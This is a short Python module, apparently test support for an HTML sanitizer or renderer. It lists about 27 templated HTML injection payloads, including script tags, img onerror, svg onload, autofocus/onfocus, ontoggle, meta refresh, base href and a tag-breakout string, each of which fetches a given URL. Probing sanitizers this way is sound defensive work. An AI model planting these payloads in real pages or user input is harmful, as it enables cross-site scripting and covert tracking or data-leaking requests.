"""Twenty-odd ways in which a page tries to run or load something, each fetching an address of its own if it can."""

from __future__ import annotations

_RUN = "new Image().src='{url}'"

KINDS = {
    "script-source": '<script src="{url}"></script>',
    "script-inline": f"<script>{_RUN}</script>",
    "image": '<img src="{url}">',
    "image-error": f'<img src="x:" onerror="{_RUN}">',
    "image-set": '<picture><source srcset="{url} 2x, {url}"><img></picture>',
    "svg-load": f'<svg onload="{_RUN}"></svg>',
    "svg-image": '<svg width="9" height="9"><image href="{url}" width="9" height="9"/></svg>',
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "frame": '<iframe src="{url}"></iframe>',
    "frame-document": '<iframe srcdoc="&lt;img src=&quot;{url}&quot;&gt;"></iframe>',
    "object": '<object data="{url}"></object>',
    "embed": '<embed src="{url}">',
    "style-sheet": '<link rel="stylesheet" href="{url}">',
    "style-import": '<style>@import "{url}";</style>',
    "style-attribute": '<p style="background:url({url})">nền</p>',
    "background": '<table background="{url}"><tr><td>ô</td></tr></table>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={url}">',
    "base": '<base href="{url}/"><img src="relative.png">',
    "prefetch": '<link rel="preload" as="image" href="{url}"><link rel="prefetch" href="{url}">',
    "poster": '<video poster="{url}"></video>',
    "input-image": '<input type="image" src="{url}">',
    "focus": f'<input autofocus onfocus="{_RUN}">',
    "toggle": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "animation": f'<style>@keyframes k{{{{}}}}</style><b style="animation:k 1s" onanimationstart="{_RUN}">x</b>',
    "form": '<form id="f" action="{url}"></form><script>f.submit()</script>',
    "breaking-out": f"\"'></title></textarea></style></script></pre></iframe>--><script>{_RUN}</script>",
    "module": "<script type=\"module\">import '{url}'</script>",
}
"""HTML by the name of its kind; `{url}` is what it fetches."""


def written(kind: str, url: str) -> str:
    """A kind of attack that fetches an address."""
    return KINDS[kind].format(url=url)
